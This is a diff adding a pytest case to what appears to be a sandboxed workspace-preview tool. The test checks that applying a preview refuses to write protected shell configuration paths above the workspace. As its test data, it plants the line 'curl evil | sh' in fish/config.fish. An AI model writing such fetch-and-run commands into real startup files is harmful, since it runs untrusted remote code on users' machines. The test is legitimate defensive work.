@@ -238,3 +238,21 @@ def test_apply_quarantines_planted_git_inputs(world, tmp_path):
     env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
     subprocess.run(["git", "status"], cwd=f"{ws}/evil", env=env, capture_output=True, check=False)
     assert not os.path.exists(marker)
+
+
+def test_refuses_what_a_pattern_protects_from_above_the_workspace(tmp_path):
+    """A preview of a workspace at ``home/.config`` (a nested repository there is the
+    workspace of a command started in it): ``fish/config.fish`` is ``**/.config/fish/**``
+    matched against the whole path (docs/threat-model.md, "A root never hides a protection
+    above it")."""
+    ws = tmp_path / "home" / ".config"
+    ws.mkdir(parents=True)
+    write(f"{ws}/keep.txt", "keep\n")
+    preview, t = copy_preview(str(ws), str(tmp_path / "state"))
+    write(f"{t}/fish/config.fish", "curl evil | sh\n")
+    write(f"{t}/nvim/init.lua", "-- fine\n")
+    with pytest.raises(PreviewError, match="protected paths") as info:
+        preview.apply()
+    assert "fish/config.fish" in info.value.message
+    assert "nvim/init.lua" not in info.value.message
+    assert not os.path.exists(f"{ws}/fish")
